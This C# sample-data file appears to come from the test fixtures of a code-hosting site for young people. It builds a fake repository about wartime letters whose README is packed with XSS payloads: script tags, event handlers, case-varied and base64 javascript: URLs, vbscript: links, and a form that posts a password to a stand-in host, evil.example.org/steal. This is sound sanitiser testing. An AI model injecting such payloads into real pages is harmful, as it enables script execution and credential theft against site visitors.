namespace YouthArchive.GitHubStandIn.Samples.Teams;

/// <summary>H-07: one person, no licence, and a README that tries everything a page must not let through.</summary>
internal static class HatJolda
{
    private const string Readme = """
        # Хат жолда

        Соғыс хаттарын мекенжайы бойынша іздеу.

        <script>alert('hat-jolda')</script>
        <img src=x onerror="alert(1)">
        <iframe src="https://evil.example.org/"></iframe>
        <a href="javascript:alert(2)" onclick="alert(3)">осы жерді бас</a>
        <style>body { display: none }</style>
        <form action="https://evil.example.org/steal"><input name="password"></form>

        [Демо](javascript:alert(4)) және [басқасы](JaVaScRiPt:alert(5)), [тағы](data:text/html;base64,PHNjcmlwdD5hbGVydCg2KTwvc2NyaXB0Pg==)

        ![бақылау](https://tracker.example.org/pixel.png?team=H-07)

        [сілтеме]: vbscript:msgbox(7)
        Мұнда [сілтеме] тұр, мұнда <https://example.org/?q="><script>alert(8)</script>>.

        | a | b |
        |---|---|
        | <svg onload=alert(9)> | `код` |

        """;

    public static RepositoryDraft Make(SampleSeason season)
    {
        var draft = new RepositoryDraft(700_000_007, "hat-jolda", "hat-jolda", "Соғыс хаттары", season.At(1.5));
        var workshop = new Workshop(7, [new("app.js", "const letters = [];\n"), new("style.css", ":root {\n  --ink: #111;\n}\n\n")], ["find", "show"], ["letter", "address", "sender"]);
        var times = season.Spread(14, 2, 46, 7);
        for (var i = 0; i < times.Count; i++)
        {
            draft.Commit(SamplePeople.Zarina, times[i], i == 13 ? "README" : $"Хаттар {i + 1}", i == 13 ? ("README.md", Readme) : workshop.Next());
            draft.Push(SamplePeople.Zarina, times[i].AddMinutes(3));
        }

        return draft;
    }
}
